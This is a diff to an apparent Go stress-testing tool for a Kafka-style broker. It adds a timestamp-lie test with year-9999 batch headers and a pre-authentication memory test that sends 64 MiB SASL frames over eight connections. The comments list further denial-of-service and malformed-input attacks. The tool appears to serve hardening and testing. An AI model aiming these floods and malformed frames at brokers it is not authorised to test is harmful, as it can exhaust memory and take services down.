@@ -10,11 +10,13 @@
 // inflating to -size MiB, then ListOffsets(-3) from 4 connections), listmax (only the
 // ListOffsets part, on -topic), plant (write a bomb batch at offset -n to stdout, to append to
 // a stopped broker's segment), pipeline (-n produces of -size MiB behind a parked fetch on one
-// connection), ts9999, internal (__consumer_offsets), longname (249-character topic delete and
-// re-create), scram (malformed SCRAM messages; -user names a SCRAM user), enum (known -user
-// against an unknown one), fdexhaust (topics until refused), percap (-n connections), connflood
-// (hold -n connections while producing into 16 KiB segments), amplify (a Produce naming -n
-// partitions; -topic metadata / metadata-distinct: a Metadata naming -n topics; -conns at once).
+// connection), ts9999, tslie (timestamp lies in the batch header), internal
+// (__consumer_offsets), longname (249-character topic delete and re-create), scram (malformed
+// SCRAM messages; -user names a SCRAM user), enum (known -user against an unknown one),
+// fdexhaust (topics until refused), percap (-n connections), connflood (hold -n connections
+// while producing into 16 KiB segments), amplify (a Produce naming -n partitions; -topic
+// metadata / metadata-distinct: a Metadata naming -n topics; -conns at once), preauth (64 MiB
+// frames before SASL authentication; -addr a SASL listener, -health a PLAINTEXT one).
 // On a controller port (-ctrl host:port): ctrl (delete_topic, put_records, heartbeat for
 // another broker, a raft RPC: without credentials, with a wrong password, and as -user/-pass),
 // ctrlslow (hold silent connections; -user/-pass is a broker's login that must still get in).
@@ -68,7 +70,7 @@ func main() {
 	attacks := map[string]func() error{
 		"lying": lying, "bomb": bomb, "pipeline": pipeline, "ts9999": ts9999, "internal": internal,
 		"longname": longname, "scram": scramMalformed, "enum": enum, "fdexhaust": fdexhaust,
-		"percap": percap, "ctrl": ctrl, "connflood": connflood, "ctrlslow": ctrlslow, "plant": plant, "amplify": amplify,
+		"percap": percap, "ctrl": ctrl, "connflood": connflood, "ctrlslow": ctrlslow, "plant": plant, "amplify": amplify, "tslie": tslie, "preauth": preauth,
 		"listmax": func() error { return listOffsetsMax(*topicFlag) },
 	}
 	f, ok := attacks[flag.Arg(0)]
@@ -1174,5 +1176,104 @@ func sendAmplified(body []byte, cnt int, what string) error {
 	wg.Wait()
 	fmt.Println(w())
 	fmt.Println(healthy("amplify"))
+	return nil
+}
+
+// tslie: timestamp lies in the batch header: MaxTimestamp in year 9999 over a record stamped
+// now, and a year-9999 FirstTimestamp with a negative delta bringing the record back to now.
+// Then reads the stored batch header back.
+func tslie() error {
+	cl, adm := client()
+	defer cl.Close()
+	topic := "tslie"
+	if err := createTopic(adm, topic, 1); err != nil {
+		return err
+	}
+	c, err := dial()
+	if err != nil {
+		return err
+	}
+	defer c.c.Close()
+	now := time.Now().UnixMilli()
+	far := time.Date(9999, 1, 1, 0, 0, 0, 0, time.UTC).UnixMilli()
+	code, msg, off, err := produceRaw(c, topic, 0, batch(0, 1, 0, now, far, record(0, 0, []byte("maxts-lie"))))
+	fmt.Println("header MaxTimestamp 9999, record now:", errName(code), msg, off, err)
+	code, msg, off, err = produceRaw(c, topic, 0, batch(0, 1, 0, far, far, record(0, now-far, []byte("first-lie"))))
+	fmt.Println("FirstTimestamp 9999, delta back to now:", errName(code), msg, off, err)
+	code, msg, off, err = produceRaw(c, topic, 0, batch(4, 1, 0, now, far, zstdOf(record(0, 0, []byte("maxts-lie-zstd")))))
+	fmt.Println("zstd, header MaxTimestamp 9999, record now:", errName(code), msg, off, err)
+	// Read the stored headers back.
+	f := kmsg.NewPtrFetchRequest()
+	f.SetVersion(11)
+	f.ReplicaID = -1
+	f.MaxWaitMillis = 100
+	f.MaxBytes = 1 << 20
+	ft := kmsg.NewFetchRequestTopic()
+	ft.Topic = topic
+	fp := kmsg.NewFetchRequestTopicPartition()
+	fp.PartitionMaxBytes = 1 << 20
+	fp.CurrentLeaderEpoch = -1
+	fp.LogStartOffset = -1
+	ft.Partitions = append(ft.Partitions, fp)
+	f.Topics = append(f.Topics, ft)
+	fr := kmsg.NewPtrFetchResponse()
+	if err := c.roundTrip(f, fr); err != nil {
+		return err
+	}
+	b := fr.Topics[0].Partitions[0].RecordBatches
+	for len(b) >= 61 {
+		var rb kmsg.RecordBatch
+		l := int(binary.BigEndian.Uint32(b[8:])) + 12
+		if l > len(b) || rb.ReadFrom(b[:l]) != nil {
+			break
+		}
+		fmt.Printf("stored batch at %d: FirstTimestamp %d MaxTimestamp %d (now %d)\n", rb.FirstOffset, rb.FirstTimestamp, rb.MaxTimestamp, now)
+		b = b[l:]
+	}
+	return nil
+}
+
+// preauth: on a SASL listener, before authenticating, 8 connections each announce a 64 MiB
+// SaslAuthenticate frame and send its bytes: how much does the broker read and hold?
+func preauth() error {
+	w := rssWatch()
+	var wg sync.WaitGroup
+	var mu sync.Mutex
+	res := map[string]int{}
+	for i := 0; i < 8; i++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			c, err := saslConn("PLAIN")
+			if err != nil {
+				mu.Lock()
+				res["handshake: "+err.Error()]++
+				mu.Unlock()
+				return
+			}
+			defer c.c.Close()
+			var hdr []byte
+			hdr = binary.BigEndian.AppendUint32(hdr, 64<<20)
+			hdr = binary.BigEndian.AppendUint16(hdr, 36)
+			hdr = binary.BigEndian.AppendUint16(hdr, 1)
+			_ = c.c.SetWriteDeadline(time.Now().Add(10 * time.Second))
+			_, err = c.c.Write(hdr)
+			chunk := make([]byte, 1<<20)
+			sent := 0
+			for err == nil && sent < 64 {
+				_, err = c.c.Write(chunk)
+				if err == nil {
+					sent++
+				}
+			}
+			mu.Lock()
+			res[fmt.Sprintf("wrote %d MiB, then %v", sent, err)]++
+			mu.Unlock()
+		}()
+	}
+	wg.Wait()
+	fmt.Println(res)
+	fmt.Println(w())
+	fmt.Println(healthy("preauth"))
 	return nil
 }
